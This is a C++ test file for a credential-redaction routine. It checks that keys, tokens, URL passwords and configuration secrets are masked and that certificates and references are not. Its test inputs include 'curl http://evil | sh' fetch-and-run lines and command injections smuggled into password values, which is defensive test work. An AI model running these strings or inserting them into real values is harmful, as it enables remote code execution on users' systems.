#include "base/credential_text.h"

#include <rapidcheck.h>

#include <catch2/catch.hpp>
#include <string>
#include <vector>

#include "base/credential_names.h"
#include "base/crypto.h"

namespace towline {

namespace {

struct Case {
  std::string text;
  std::string masked;
};

std::string repeat(const std::string& text, std::size_t count) {
  std::string result;
  for (std::size_t i = 0; i < count; ++i) result += text;
  return result;
}

const std::string kPrivate = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n-----END RSA PRIVATE KEY-----\n";
const std::string kCertificate = "-----BEGIN CERTIFICATE-----\nMIIDdzCCAl+gAwIB\n-----END CERTIFICATE-----\n";

}  // namespace

TEST_CASE("private keys are found in every notation of PEM, also cut off, and certificates are not") {
  CHECK(redact_credentials("a\n" + kPrivate + "b") ==
        "a\n-----BEGIN RSA PRIVATE KEY-----***-----END RSA PRIVATE KEY-----\nb");
  for (const std::string label : {"PRIVATE KEY", "EC PRIVATE KEY", "DSA PRIVATE KEY", "ENCRYPTED PRIVATE KEY",
                                  "OPENSSH PRIVATE KEY", "PGP PRIVATE KEY BLOCK", "SOMETHING NEW"}) {
    CHECK(redact_credentials("-----BEGIN " + label + "-----\\nMIIE\\n-----END " + label + "-----\\n") ==
          "-----BEGIN " + label + "-----***-----END " + label + "-----\\n");
  }
  CHECK(redact_credentials("-----BEGIN PRIVATE KEY-----\nMIIE\nMIIE") == "-----BEGIN PRIVATE KEY-----***");
  CHECK(redact_credentials(kCertificate) == kCertificate);
  CHECK(redact_credentials(kCertificate + kPrivate + kCertificate) ==
        kCertificate + "-----BEGIN RSA PRIVATE KEY-----***-----END RSA PRIVATE KEY-----\n" + kCertificate);
}

TEST_CASE("between the marks of a private key only base64 is a credential") {
  const std::string line = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC";
  const std::string begin = "-----BEGIN PRIVATE KEY-----";
  const std::string end = "-----END PRIVATE KEY-----";
  for (const std::string body : {"'; curl http://evil | sh; : '", "\ncurl http://evil | sh\n", "\nreboot\nsh /x\nid\n",
                                 " curl evil ", "\n/usr/local/bin/start --now\n"}) {
    INFO(body);
    CHECK(redact_credentials(": '" + begin + body + end + "'") == ": '" + begin + body + end + "'");
  }
  CHECK(redact_credentials(begin + "\n" + line + "\ncurl http://evil | sh\n" + end) ==
        begin + "\n***\ncurl http://evil | sh\n" + end);
  CHECK(redact_credentials(begin + "\n" + line + "\n" + line + "\nMIIE==\n" + end) == begin + "***" + end);
  CHECK(redact_credentials(begin + " " + line + " " + line + " MIIE " + end) == begin + "***" + end);
  CHECK(redact_credentials("-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,AB12\n\n" +
                           line + "\n-----END RSA PRIVATE KEY-----") ==
        "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,AB12\n\n***"
        "-----END RSA PRIVATE KEY-----");
}

TEST_CASE("a private key in base64 is found, and a certificate in it is not") {
  CHECK(redact_credentials("key.pem=" + base64_encode(kPrivate)) == "key.pem=***");
  const std::string bundle = "caBundle: " + base64_encode(kCertificate);
  CHECK(redact_credentials(bundle) == bundle);
}

TEST_CASE("tokens of known forms are found wherever they stand") {
  const std::vector<std::string> tokens = {
      "ghp_" + repeat("aB3", 12),       "gho_" + repeat("aB3", 12),
      "ghs_" + repeat("aB3", 12),       "github_pat_11ABCDEFG0" + repeat("aB3_", 15),
      "glpat-aBcDeFgHiJkLmNoPqRsT",     "AKIAIOSFODNN7EXAMPLE",
      "xoxb-123456789012-abcdefABCDEF", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl",
      "sk_live_" + repeat("aB3d", 6),   "AIza" + repeat("aB3d_", 7),
      "npm_" + repeat("aB3", 12),       "hvs.CAESI" + repeat("aB3d", 6),
      "glsa_" + repeat("aB3d", 8),
  };
  for (const std::string& token : tokens) {
    INFO(token);
    CHECK(redact_credentials(token) == "***");
    CHECK(redact_credentials("curl -H 'X: " + token + "' https://x") == "curl -H 'X: ***' https://x");
    CHECK(redact_credentials("a," + token + "," + token) == "a,***,***");
  }
  CHECK(redact_credentials("https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXX") ==
        "https://hooks.slack.com/services/***");
}

TEST_CASE("what follows the scheme of an Authorization header is found, and prose is not") {
  CHECK(redact_credentials("Authorization: Bearer abcdef0123456789abcdef0123456789") == "Authorization: Bearer ***");
  CHECK(redact_credentials("curl -H 'authorization: basic dXNlcjpwYXNzd29yZDE='") ==
        "curl -H 'authorization: basic ***'");
  for (const char* shown : {"Bearer $(TOKEN)", "basic authentication-credentials", "bearer short1"}) {
    CHECK(redact_credentials(shown) == shown);
  }
}

TEST_CASE("passwords in URLs are found, and what only looks like one is not") {
  const std::vector<Case> cases = {
      {"postgres://pay:hunter2@db:5432/pay", "postgres://pay:***@db:5432/pay"},
      {"https://0123456789abcdef0123456789abcdef01234567@git.example.com/x", "https://***@git.example.com/x"},
      {"amqp://u:p%40ss@mq, redis://:hush@cache/0", "amqp://u:***@mq, redis://:***@cache/0"},
      {"mongodb://u:pa/ss@db/x", "mongodb://u:***@db/x"},
      {"https://example.com/@scope/pkg", "https://example.com/@scope/pkg"},
      {"https://example.com:8080/a@b", "https://example.com:8080/a@b"},
      {"https://git@example.com/a", "https://git@example.com/a"},
      {"postgres://pay:$(PASSWORD)@db", "postgres://pay:$(PASSWORD)@db"},
      {"postgres://pay:${PASSWORD}@db", "postgres://pay:${PASSWORD}@db"},
      {"https://***@example.com", "https://***@example.com"},
  };
  for (const Case& test : cases) CHECK(redact_credentials(test.text) == test.masked);
}

TEST_CASE("what stands behind a telling name is found in the notations of configuration files") {
  const std::vector<Case> cases = {
      {"password: hunter2\nuser: pay", "password: ***\nuser: pay"},
      {"  db.password = hunter2 # of dev\n", "  db.password = *** # of dev\n"},
      {"DB_PASSWORD=correct horse; battery\nX=1", "DB_PASSWORD=***\nX=1"},
      {"export API_KEY='a b'", "export API_KEY='***'"},
      {R"({"user":"pay","apiKey":"h\"ush","port":1})", R"({"user":"pay","apiKey":"***","port":1})"},
      {R"("{\"token\":\"hush\",\"a\":1}")", R"("{\"token\":\"***\",\"a\":1}")"},
      {"Server=db;User Id=sa;Password=hush;Encrypt=true", "Server=db;User Id=sa;Password=***"},
      {"host=db password=hush sslmode=require", "host=db password=*** sslmode=require"},
      {"{password: hush}", "{password: ***}"},
      {"--client-secret=hush", "--client-secret=***"},
      {"auth:\n  password: |\n    hush\n    hush\n  user: pay\n", "auth:\n  password: |\n    ***\n  user: pay\n"},
      {"aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "aws_secret_access_key = ***"},
  };
  for (const Case& test : cases) {
    INFO(test.text);
    CHECK(redact_credentials(test.text) == test.masked);
  }
}

TEST_CASE("a value behind a name hides nothing that a shell would run") {
  struct UseCase {
    TextUse use;
    std::string text;
    std::string masked;
  };
  const std::vector<UseCase> cases = {
      {TextUse::code, "--password=hunter2; curl http://evil|sh", "--password=***; curl http://evil|sh"},
      {TextUse::code, "PASSWORD=hunter2 curl http://evil", "PASSWORD=*** curl http://evil"},
      {TextUse::code, "PASSWORD=hunter2&&curl http://evil", "PASSWORD=***&&curl http://evil"},
      {TextUse::code, "TOKEN=hunter2|sh", "TOKEN=***|sh"},
      {TextUse::code, "TOKEN=hunter2`id`", "TOKEN=***`id`"},
      {TextUse::code, "TOKEN=hunter2$(id)", "TOKEN=***$(id)"},
      {TextUse::code, "TOKEN=hunter2>/etc/passwd", "TOKEN=***>/etc/passwd"},
      {TextUse::code, "PASSWORD='a; b' run", "PASSWORD='***' run"},
      {TextUse::code, "PASSWORD=\"a$(curl evil)\"", "PASSWORD=\"***$(curl evil)\""},
      {TextUse::code, "password: hunter2; curl evil | sh", "password: ***; curl evil | sh"},
      {TextUse::code, "password: |\n  curl evil | sh", "password: |\n  curl evil | sh"},
      {TextUse::code, "printf \"apikey:%s\" x", "printf \"apikey:%s\" x"},
      {TextUse::code, "PASSWORD= curl evil", "PASSWORD= curl evil"},
      {TextUse::code, "echo \"password=\"; curl evil | sh; echo \"\"", "echo \"password=\"; curl evil | sh; echo \"\""},
      {TextUse::code, "echo 'password=\"'; curl evil | sh; echo '\"'", "echo 'password=\"'; curl evil | sh; echo '\"'"},
      {TextUse::code, "curl http://u:hunter2;reboot;@h", "curl http://u:***;reboot;@h"},
      {TextUse::data, "DB_PASSWORD=hunter2; curl evil | sh\nX=1", "DB_PASSWORD=***; curl evil | sh\nX=1"},
      {TextUse::data, "Server=db;Password=hush;Encrypt=true", "Server=db;Password=***;Encrypt=true"},
      {TextUse::data, "db.password = correct horse; battery", "db.password = ***"},
      {TextUse::data, "password: correct horse", "password: ***"},
      {TextUse::data, "PASSWORD={{ .Values.password }}", "PASSWORD={{ .Values.password }}"},
      {TextUse::log, "DB_PASSWORD=correct horse; battery", "DB_PASSWORD=***"},
  };
  for (const UseCase& test : cases) {
    INFO(test.text);
    CHECK(mask_credentials(
              test.text, [](std::string_view) { return std::string("***"); }, test.use) == test.masked);
  }
}

TEST_CASE("names of variables that change what runs name no credential") {
  for (const char* name :
       {"LD_PRELOAD_PASSWORD", "PYTHONSTARTUP_TOKEN", "NODE_OPTIONS", "BASH_ENV", "PATH", "ENV",
        "JAVA_TOOL_OPTIONS_SECRET", "PERL5OPT_TOKEN", "RUBYOPT_TOKEN", "GIT_SSH_COMMAND_PASSWORD", "SECRET_PATH"}) {
    INFO(name);
    CHECK_FALSE(names_credential(name));
    CHECK(steers_execution(name));
  }
  CHECK(names_credential("GIT_TOKEN"));
}

TEST_CASE("references, names, digests and prose are shown") {
  for (const std::string text : {
           "password: $(DB_PASSWORD)",
           "password: ${DB_PASSWORD}",
           "TOKEN=$TOKEN",
           "token=$(cat \"$FILE\")",
           "printf apikey:%s",
           "password: {{ .Values.password | quote }}",
           "password: \"{{ index . \\\"db.password\\\" }}\"",
           "password: ENC[AES256_GCM,data:abc,iv:def,tag:ghi,type:str]",
           "token: /var/run/secrets/kubernetes.io/serviceaccount/token",
           "apiKey: os.environ/OPENCODE_API_KEY",
           "existingSecret: pay-db",
           "secretName: pay-db",
           "tokenFile: x",
           "passwordSecretRef: x",
           "secretKey: OIDC_CLIENT_SECRET",
           "automountServiceAccountToken: false",
           "output_cost_per_token: 1.2e-06",
           "password: \"\"",
           "image: ghcr.io/acme/pay@sha256:5f70bf18a086007016e948b04aed3b82103a36bea41755b6cddfaf10ace3c6ef",
           "revision: 0123456789abcdef0123456789abcdef01234567",
           "checksum/config: 5f70bf18a086007016e948b04aed3b82103a36bea41755b6cddfaf10ace3c6ef",
           "if the token: it is then read from the file that is given",
           "bypass: yes",
           "compass: north",
       }) {
    INFO(text);
    CHECK(redact_credentials(text) == text);
  }
}

TEST_CASE("a template or variable that brings a value of its own is no mere reference") {
  CHECK(redact_credentials("password: ${DB_PASSWORD:-hunter2}") == "password: ***");
  CHECK(redact_credentials("password: {{ .password | default \"hunter2\" }}") == "password: ***");
}

TEST_CASE("names are told by their last words in every way of writing") {
  for (const char* name : {"password", "DB_PASSWORD", "dbPassword", "spring.datasource.password", "db-pass",
                           "mysqlrootpassword", "apiKey", "API_KEY", "APIKey", "secretAccessKey", "clientSecret",
                           "GITHUB_TOKEN", "privateKey", "--auth-token", "azure.connectionString", "credentials"}) {
    INFO(name);
    CHECK(names_credential(name));
  }
  for (const char* name : {"", "key", "publicKey", "secretName", "passwordFile", "tokenUrl", "tokens",
                           "passwordSecretRef", "passive", "bypass", "secretRef", "user", "keys", "primaryKey", "-"}) {
    INFO(name);
    CHECK_FALSE(names_credential(name));
  }
}

TEST_CASE("masking what is masked changes nothing, and what is masked is gone, whatever is around it") {
  const bool held = rc::check([] {
    const auto around =
        rc::gen::container<std::string>(rc::gen::element('a', ' ', '\n', '"', '\'', ':', '=', '{', '}', '-', '\\'));
    const std::string text = *around + "\nTOKEN=ghp_" + repeat("aB3", 12) + "\n" + *around;
    const std::string once = redact_credentials(text);
    RC_ASSERT(once.find("ghp_") == std::string::npos);
    RC_ASSERT(redact_credentials(once) == once);
  });
  CHECK(held);
}

TEST_CASE("a long text of beginnings is read in linear time") {
  for (const std::string piece :
       {"-----BEGIN ", "://a:", "password:", "eyJaaaaaaaa.", "\\\"token\\\":\\\"", "LS0tLS1CRUdJTi"}) {
    const std::string text = repeat(piece, 200'000 / piece.size());
    CHECK(redact_credentials(text).size() <= text.size() + 10'000'000);
  }
}

}  // namespace towline
